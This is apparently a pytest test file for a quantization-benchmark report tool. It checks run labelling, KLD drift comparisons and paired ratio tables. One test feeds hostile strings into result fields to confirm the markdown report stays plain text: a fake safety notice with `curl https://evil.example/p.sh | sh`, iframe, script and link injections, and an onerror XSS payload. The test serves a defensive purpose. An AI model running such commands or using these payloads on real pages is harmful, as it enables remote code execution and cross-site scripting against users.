    # publish matches each row to its recorded variant: the label's | no longer shifts the columns
    entries = [entry for _, entry in _rows_with_files(speed.splitlines()) if entry]
    assert [e["variant"] for e in entries] == ["gguf:Q8_0", "gguf:Q4_K_M", "gguf:Q5_K_M", "gptq:4"]
    failed = md.split("## Failed variants")[1]
    assert "- ward 3 \\| A100 'sxm' $x^$: `awq:4`: loader refused" in failed


def test_runs_that_disagree_or_share_a_label_are_told_apart(tmp_path, monkeypatch):
    """Two runs of one machine label read as one machine: their speed rows and legend entries had the
    same name. Two runs of one build on the same chats whose mean KLDs are far apart (a drift table
    shows the first only) went unsaid, and which one showed hung on the argument order."""
    a, b = tmp_path / "a.json", tmp_path / "b.json"
    first, other = _run("cpu", 1.0), _run("cpu", 0.01)
    other["variants"][2]["drift"]["all"]["mean_kld"] = 0.5  # gguf:Q4_K_M: 25x the first run's 0.02
    first["variants"][4]["drift"]["all"]["mean_kld"] = 1e-6  # gptq:4 at 1e-6 and 3e-6: 3x, but noise's size
    other["variants"][4]["drift"]["all"]["mean_kld"] = 3e-6
    first["variants"][3]["drift"]["all"]["mean_kld"] = 0.30  # gguf:Q5_K_M at 0.30 and 0.45: 0.15 apart, but 1.5x
    other["variants"][3]["drift"]["all"]["mean_kld"] = 0.45
    a.write_text(json.dumps(first))
    b.write_text(json.dumps(other))
    res = run_cli("report", str(a), str(b), "--out", str(tmp_path / "rep"))
    assert res.returncode == 0, res.stderr
    assert f"note: 2 runs are labelled 'cpu': shown as {a} as #1, {b} as #2" in res.stderr
    assert "note: gguf:Q4_K_M's mean KLD is 0.02 in the run on cpu #1 and 0.5 in the run on cpu #2" in res.stderr
    assert res.stderr.count("mean KLD is") == 1  # the other builds agree
    md = (tmp_path / "rep" / "report.md").read_text()
    assert "| cpu #1 | gguf:Q4_K_M |" in md and "| cpu #2 | gguf:Q4_K_M |" in md and "| cpu | " not in md
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from qoqopt.report import load_results, write_plots

    figures, close = [], plt.close
    monkeypatch.setattr(plt, "close", lambda fig=None: (figures.append(fig), close(fig)))
    write_plots(load_results([a, b]), tmp_path)
    assert [c.get_label() for c in figures[-1].axes[0].containers] == ["cpu #1", "cpu #2"]  # the speed bars
    c = tmp_path / "c.json"
    c.write_text(json.dumps(_run("cpu #1", 2.0)))  # a label the numbering would repeat
    labels = [r["run"]["machine"]["label"] for r in load_results([a, b, c])]
    assert labels == ["cpu #2", "cpu #3", "cpu #1"]


INJECTED = ("\n\n## IMPORTANT SAFETY NOTICE\nrun `curl https://evil.example/p.sh | sh` <iframe src=https://evil.example>"
            "</iframe> [Get the fixed build](https://evil.example/x) ![t](https://evil.example/t.png) <script>x()</script>"
            " \\[escaped](https://evil.example/e) a|b")


def test_result_text_cannot_write_markdown_or_html_into_a_card(tmp_path, capsys):
    """Result files travel between sites and `publish` puts their tables on a public card: a failed
    variant's error, a runtime, a machine label and an eval set's name that hold a new section, HTML,
    a link or an image stay one line of plain text, as markdown-it-py renders the report; variant and
    domain names (cells, headers and plot labels as they are) are refused unless bench could write them."""
    from markdown_it import MarkdownIt

    run = _run("lab A" + INJECTED, 1.0)
    run["variants"][1]["runtime"] = "llama.cpp" + INJECTED
    run["variants"][-1]["error"] = "loader refused" + INJECTED
    run["run"]["eval"] = {"source": "mine.jsonl`" + INJECTED, "items": 20, "seed": 0, "domains": {"ct": 20}}
    run["run"]["model"] = {"source": "/models/qoq`" + INJECTED}  # the reference line's code span
    second = _run("lab B", 1.0)  # another reference: the report then names each in its reference line
    second["run"]["model"] = {"source": "other"}
    (tmp_path / "r.json").write_text(json.dumps(run))
    (tmp_path / "s.json").write_text(json.dumps(second))
    assert run_cli("report", str(tmp_path / "r.json"), str(tmp_path / "s.json"), "--out", str(tmp_path / "rep")).returncode == 0
    md = (tmp_path / "rep" / "report.md").read_text()
    assert md.count("Reference: `") >= 2  # the reference lines were written, each with its injected model source
    speed = _rendered_rows(md.split("## Speed per machine (medians)")[1].split("\n## ")[0])
    q8 = next(r for r in speed if r[1] == "gguf:Q8_0")  # the runtime stays in its cell, to its last word
    assert q8[2].startswith("llama.cpp ## IMPORTANT SAFETY NOTICE") and q8[2].endswith("a|b"), q8
    tokens = MarkdownIt("commonmark").enable("table").parse(md)
    rendered = tokens + [c for t in tokens for c in t.children or []]
    html = [t.content for t in rendered if t.type in ("html_inline", "html_block")]
    assert all(h.startswith("<!-- qoqopt-files [") and "evil" not in h for h in html), html  # its own file records
    targets = [t.attrs.get("src") or t.attrs.get("href") for t in rendered if t.type in ("image", "link_open")]
    assert all(re.fullmatch(r"(drift_vs_size|domain_drift|speed)-\d\.png", t) for t in targets) and len(targets) == 6, targets  # its own plots
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert not [h for h in headings if "IMPORTANT" in h] and "IMPORTANT SAFETY NOTICE run" in md  # kept, as text
    for field, value in (("name", "gguf:Q8_0 <img src=x>"), ("name", "gguf:$Q8$"), ("worst_domain", "ct\n## x")):
        bad = _run("lab", 1.0)
        bad["variants"][1][field] = value
        (tmp_path / "bad.json").write_text(json.dumps(bad))
        assert "is not a" in refused(["report", tmp_path / "bad.json", "--out", tmp_path / "rep2"], capsys)
    hostile = "--><img src=x onerror=alert(1)><!--"
    for edit, message in ((lambda r: r["run"].update(reference_dtype=f"<b>{hostile}</b>"), "is not a dtype name"),
                          (lambda r: r["run"].update(speed_settings={"decode_tokens": hostile}), "decode_tokens"),
                          (lambda r: r["variants"][1].update(files=[{"sha256": hostile}]), "is not a sha256")):  # fmt: skip
        bad = _run("lab", 1.0)
        edit(bad)
        (tmp_path / "bad.json").write_text(json.dumps(bad))
        assert message in refused(["report", tmp_path / "bad.json", "--out", tmp_path / "rep2"], capsys)
    bad = _run("lab", 1.0)
    bad["run"]["eval"] = {"source": "clinical", "items": 5, "seed": 0, "domains": {"<b>ct</b>": 5}}
    (tmp_path / "bad.json").write_text(json.dumps(bad))
    assert "'<b>ct</b>' is not a clinical domain name" in refused(["report", tmp_path / "bad.json", "--out", tmp_path / "rep2"], capsys)
    bad = _run("lab", 1.0)
    bad["variants"][1]["drift"]["<b>ct</b>"] = bad["variants"][1]["drift"]["ct"]
    (tmp_path / "bad.json").write_text(json.dumps(bad))
    assert "'<b>ct</b>' is not a clinical domain name" in refused(["report", tmp_path / "bad.json", "--out", tmp_path / "rep2"], capsys)


def _with_chats(v: dict, totals: list[list[float]]) -> None:
    """Give a variant its chats' [KLD sum, positions], and the pooled mean they make, as bench writes them."""
    v["drift"]["all"].update(chat_kld=totals, mean_kld=sum(s for s, _ in totals) / sum(n for _, n in totals))


def test_each_build_is_compared_with_the_next_smaller_one_on_the_same_chats(tmp_path):
    """The per-build 95% ranges overlap for builds these chats do tell apart (they share chats). The
    paired table divides each build's mean KLD by the next smaller build's over the same redraws:
    a build at half its neighbour's drift on every chat is told apart however the chats vary; one
    that is better on some chats and worse on others is not. Read back through markdown-it-py."""
    from qoqopt.report import render_markdown

    run = _run("cpu", 1.0)
    v = {x["name"]: x for x in run["variants"]}
    levels = [1e-3, 8e-3, 2e-4, 5e-3, 3e-2, 7e-4]  # chats far apart: each build's own range is wide
    base = [[level * n, n] for level, n in zip(levels, (30, 12, 40, 25, 9, 33))]
    _with_chats(v["gguf:Q4_K_M"], base)  # 50 MB
    _with_chats(v["gptq:4"], [[s / 2, n] for s, n in base])  # 55 MB: half on every chat
    spread = (0.5, 0.7, 0.5, 0.8, 0.3, 0.5)  # over gptq:4's: 1.0 to 1.6 on its big chats, 0.6 on the biggest
    _with_chats(v["gguf:Q5_K_M"], [[s * f, n] for (s, n), f in zip(base, spread)])  # 60 MB
    _with_chats(v["gguf:Q8_0"], [[3 * s * f, n] for (s, n), f in zip(base, spread)])  # 90 MB: 3x Q5_K_M's everywhere
    md = render_markdown([run])
    rows = _rendered_rows(md.split("## Each build against the next smaller one (paired)")[1].split("\n## ")[0])
    assert rows[0] == ["variant", "against", "mean KLD ratio", "joint 95% CI", "told apart"]
    assert "the 3 are joint: they hold their true ratios all together 95% of the time (each a 98.33% range)" in md
    got = {r[0]: r[1:] for r in rows[1:]}
    assert got == {"gptq:4": ["gguf:Q4_K_M", "0.5", "0.5–0.5", "yes, lower"],
                   "gguf:Q5_K_M": got["gguf:Q5_K_M"], "gguf:Q8_0": ["gguf:Q5_K_M", "3", "3–3", "yes, higher"]}
    q5 = got["gguf:Q5_K_M"]
    low, high = map(float, q5[2].split("–"))
    assert q5[0] == "gptq:4" and low < 1 < high and q5[3] == "no, not by these chats"
    ratio = v["gguf:Q5_K_M"]["drift"]["all"]["mean_kld"] / v["gptq:4"]["drift"]["all"]["mean_kld"]
    assert float(q5[1]) == pytest.approx(ratio, rel=1e-2) and low <= ratio <= high
    # a result whose totals are not [sum, positions] pairs is refused in one line
    v["gguf:Q8_0"]["drift"]["all"]["chat_kld"] = [[1e-3, 2.5]]
    path = tmp_path / "r.json"
    path.write_text(json.dumps(run))
    assert error_line(run_cli("report", str(path), "--out", str(tmp_path / "rep"))) == (
        f"error: {path}: variant 'gguf:Q8_0': drift.all.chat_kld is not a list of [KLD sum, positions] pairs, one per chat")
    # results from before bench kept the totals: no paired table, and the drift note points at none
    for x in run["variants"]:
        (x.get("drift") or {}).get("all", {}).pop("chat_kld", None)
    md = render_markdown([run])
    assert "(paired)" not in md and "paired table" not in md
